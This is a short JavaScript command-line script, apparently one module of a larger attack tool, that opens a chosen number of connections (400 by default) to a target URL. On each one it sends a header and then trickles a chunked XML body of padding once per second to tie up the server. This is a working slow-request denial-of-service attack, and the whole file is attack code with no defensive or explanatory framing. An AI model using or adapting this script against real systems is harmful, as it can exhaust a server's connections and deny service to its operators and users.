// Strangers that keep a place each by sending a body too slowly to matter, and just fast enough to stay: dawdlers.js URL ADDRESS [COUNT]
import { chunk, head, hold } from './connections.js';

const [url, address, count = '400'] = process.argv.slice(2);
hold(url, Number(count), (socket) => {
  socket.write(head(url, address));
  socket.write(chunk('<?xml version="1.0"?>'));
  const timer = setInterval(() => socket.write(chunk(' '.repeat(1000))), 1000);
  socket.once('close', () => clearInterval(timer));
});
